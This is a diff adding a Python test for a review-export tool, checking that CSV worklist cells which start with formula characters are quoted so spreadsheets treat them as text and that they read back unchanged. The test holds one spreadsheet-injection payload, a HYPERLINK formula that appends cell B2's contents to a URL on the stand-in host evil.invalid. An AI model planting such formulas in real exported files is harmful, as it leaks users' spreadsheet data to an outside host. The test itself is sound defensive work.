@@ -714,3 +714,26 @@ def test_an_imported_review_is_no_revision_an_export_into_its_folder_overwrites(
     res = export_review(ws.root, ws.read_table("attention").to_pylist(), out, top=1, images=False,
                         include_reviewed=True)
     assert cid in res.cases
+
+
+def test_the_worklist_shows_no_formula_and_reads_back_as_written(phantom_ws, tmp_path: Path) -> None:
+    """worklist.csv is opened in a spreadsheet: a cell starting `=`/`@`/`-` ran as a formula there (a
+    dataset named `-x` gave its case ids `#NAME?`, saved back so). Such cells are quoted with `'`,
+    and the import reads them as written."""
+    from curator.pseudolabel.review_records import worklist_rows
+
+    ctx, _ = phantom_ws()
+    run_stage(ctx, PseudolabelStage)
+    att = ctx.workspace.read_table("attention").to_pylist()
+    evil = '=HYPERLINK("http://evil.invalid?"&B2,"open")'
+    for r in att:
+        r["dataset"] = evil
+    out = tmp_path / "review"
+    res = export_review(ctx.workspace.root, att, out, top=2, images=False)
+    with open(out / "worklist.csv", newline="", encoding="utf-8") as f:
+        work = list(csv.DictReader(f))
+    assert [w["dataset"] for w in work] == ["'" + evil] * len(res.cases)
+    assert [w["review_rank"] for w in work] == ["1", "2"]  # numbers stay numbers
+    assert all(not v.startswith(("=", "+", "-", "@")) for w in work for v in w.values())
+    _accept(out, {res.cases[0]: "all"})
+    assert [w["dataset"] for w in worklist_rows(out)] == [evil] * len(res.cases)
